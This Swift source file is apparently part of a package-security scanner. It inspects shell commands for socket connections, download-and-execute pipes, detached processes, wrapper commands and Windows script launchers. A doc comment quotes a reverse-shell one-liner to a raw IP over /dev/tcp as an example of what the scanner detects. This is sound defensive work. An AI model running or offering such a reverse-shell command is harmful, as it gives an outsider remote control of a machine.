import Foundation
import LockgateCore

extension ShellRun {
    /// Analyses one simple command; returns whether it downloads something (for `curl ... | sh`).
    mutating func analyse(
        _ command: ShellCommand, depth: Int, anchor: ShellToken?, pipedFromDownload: Bool
    ) -> Bool {
        let original = command.words
        let firstCommand = original.firstIndex { !ShellRun.isAssignment($0.text) } ?? original.endIndex
        var hidden = command.background
        let words = ShellRun.stripWrappers(Array(original[firstCommand...]), hidden: &hidden)
        for word in original + command.redirects.map(\.target) { scanWord(word, depth: depth, anchor: anchor) }
        var fromSocket = false
        for (op, target) in command.redirects where ShellRun.isSocketPath(target.text) {
            // Bash's `/dev/tcp/HOST/PORT`: a connection, not a file (`bash -i >& /dev/tcp/45.9.1.2/443 0>&1`).
            emit(.useNetwork, at: target, anchor: anchor)
            let host = target.text.split(separator: "/").dropFirst(2).first.map(String.init) ?? ""
            if URLSignals.isRemoteIPv4(host) { emit(.urlRawIP, at: target, anchor: anchor) }
            if op.contains("<") || op == ">&" || op == "&>" { fromSocket = true }
        }
        guard let head = words.first else { return fromSocket }
        let lowerLine = original.map(\.text).joined(separator: " ").lowercased()
        if StringSignals.isShellCommand(lowerLine) { emit(.shellCommand, at: head, anchor: anchor) }
        if hidden { emit(.hiddenProcess, at: original.first ?? head, anchor: anchor) }
        let name = ShellRun.commandName(head.text)
        let arguments = Array(words.dropFirst())
        let downloads = rules(
            name: name, head: head, arguments: arguments, command: command, depth: depth,
            anchor: anchor, pipedFromDownload: pipedFromDownload)
        if fromSocket, ShellRun.inlineLanguage(name) != nil {
            // An interpreter whose input comes from a socket runs what the network sends it.
            emit(.downloadExecute, at: head, anchor: anchor)
        }
        for (op, target) in command.redirects
        where op.contains(">") && !target.text.hasPrefix("&") && !ShellRun.isDescriptorCopy(op, target.text)
            && !target.text.hasPrefix("/dev/null") && !ShellRun.isSocketPath(target.text)
        {
            emit(.writeFile, at: target, anchor: anchor)
            let path = ShellRun.normalise(target.text)
            if downloads { self.downloads.insert(path) } else { written.insert(path) }
        }
        if let body = command.heredoc {
            if let language = ShellRun.inlineLanguage(name) {
                if language == .shell {
                    analyse(body.text, depth: depth + 1, anchor: anchor ?? head)
                } else {
                    let (line, column) = position(body, anchor: anchor)
                    steps.append(.inlineCode(body.text, language, line: line, column: column))
                }
            } else {
                for kind in StringSignals.kinds(in: body.text) { emit(kind, at: body, anchor: anchor) }
            }
        }
        return downloads || fromSocket
    }

    /// String signals, variables and substitutions of one word.
    mutating func scanWord(_ word: ShellToken, depth: Int, anchor: ShellToken?) {
        for kind in StringSignals.kinds(in: word.text) where kind != .shellCommand && kind != .reconHost {
            emit(kind, at: word, anchor: anchor)
        }
        for variable in word.variables where variablesSeen.insert(variable).inserted {
            emit(.readEnvironmentVariable, at: word, anchor: anchor)
        }
        for body in word.substitutions { analyse(body, depth: depth + 1, anchor: anchor ?? word) }
    }

    /// `2>&1`, `>&2`, `>&-`: a redirection that copies or closes a descriptor, not one that writes a file.
    static func isDescriptorCopy(_ op: String, _ target: String) -> Bool {
        op.hasSuffix("&") && !target.isEmpty && (target == "-" || target.allSatisfy(\.isASCIIDigit))
    }

    /// The package file a Windows launcher's argument names, relative to the package: a script
    /// (`.js`, `.jse`, `.vbs`, `.vbe`, `.wsf`, `.hta`, `.sct`, `.bat`, `.cmd`, `.ps1`) or, given with a folder, a
    /// binary (`.dll`, `.exe`, `.cpl`); a leading `%INIT_CWD%`, `$INIT_CWD` or `${PWD}` folder is dropped and
    /// backslashes become slashes. Nil for anything else (`shell32.dll,Control_RunDLL`, `//B`).
    static func launchedFile(_ word: String) -> String? {
        var path = word.replacingOccurrences(of: "\\", with: "/")
        for (open, close) in [("%", "%"), ("${", "}"), ("$", "")] where path.hasPrefix(open) {
            let rest = path.dropFirst(open.count)
            guard let slash = rest.firstIndex(of: "/") else { break }
            let variable = rest[..<slash].dropLast(close.count)
            guard !variable.isEmpty, variable.allSatisfy({ $0.isLetter || $0.isNumber || $0 == "_" }) else { break }
            path = String(rest[rest.index(after: slash)...])
            break
        }
        let lower = path.lowercased()
        guard !lower.contains(","), let dot = lower.lastIndex(of: ".") else { return nil }
        let suffix = lower[lower.index(after: dot)...]
        if ["js", "jse", "vbs", "vbe", "wsf", "hta", "sct", "bat", "cmd", "ps1"].contains(suffix) { return path }
        if ["dll", "exe", "cpl"].contains(suffix), path.contains("/") { return path }
        return nil
    }

    /// Bash's network pseudo-files, `/dev/tcp/HOST/PORT` and `/dev/udp/HOST/PORT`.
    static func isSocketPath(_ path: String) -> Bool {
        path.hasPrefix("/dev/tcp/") || path.hasPrefix("/dev/udp/")
    }

    /// The command name: lowercased basename without `.exe`.
    static func commandName(_ word: String) -> String {
        var name = word.lowercased()
        if let slash = name.lastIndex(where: { $0 == "/" || $0 == "\\" }) {
            name = String(name[name.index(after: slash)...])
        }
        for suffix in [".exe", ".cmd"] where name.hasSuffix(suffix) { name.removeLast(suffix.count) }
        return name
    }

    /// A path as written, without a leading `./`.
    static func normalise(_ path: String) -> String {
        var path = path
        while path.hasPrefix("./") { path.removeFirst(2) }
        return path
    }

    /// The language a command runs its standard input or `-c`/`-e` text in.
    static func inlineLanguage(_ name: String) -> SourceLanguage? {
        if ["sh", "bash", "zsh", "dash", "ksh", "ash"].contains(name) { return .shell }
        if name.hasPrefix("python") || name == "py" { return .python }
        if ["node", "nodejs"].contains(name) { return .javascript }
        return nil
    }

    // MARK: - Private

    private static func isAssignment(_ text: String) -> Bool {
        guard let equals = text.firstIndex(of: "="), equals != text.startIndex else { return false }
        return text[..<equals].allSatisfy { $0.isLetter || $0.isNumber || $0 == "_" }
    }

    private static let wrappersTakingValue: [String: Set<String>] = [
        "sudo": ["-u", "-g", "-c"], "nice": ["-n"], "timeout": [], "env": ["-u"], "npx": ["-p", "--package"],
    ]

    /// Drops `sudo`, `env`, `nohup`, `exec`, `npx`, `cross-env`, `start /b` and the like; notes detaching ones.
    private static func stripWrappers(_ words: [ShellToken], hidden: inout Bool) -> [ShellToken] {
        var words = words[...]
        while let first = words.first {
            let name = commandName(first.text)
            if name == "env" && words.dropFirst().allSatisfy({ isAssignment($0.text) || $0.text.hasPrefix("-") }) {
                break
            }
            guard
                [
                    "sudo", "doas", "env", "nohup", "setsid", "disown", "exec", "command", "builtin", "time", "nice",
                    "timeout", "npx", "cross-env", "call", "start", "xargs",
                ].contains(name)
            else { break }
            if ["nohup", "setsid", "disown"].contains(name) { hidden = true }
            words.removeFirst()
            let valued = wrappersTakingValue[name] ?? []
            while let next = words.first,
                next.text.hasPrefix("-") || next.text.hasPrefix("/") && name == "start"
                    || isAssignment(next.text) || (name == "timeout" && next.text.first?.isNumber == true)
            {
                if name == "start" && ["/b", "/min"].contains(next.text.lowercased()) { hidden = true }
                words.removeFirst()
                if valued.contains(next.text), !words.isEmpty { words.removeFirst() }
            }
        }
        return Array(words)
    }
}
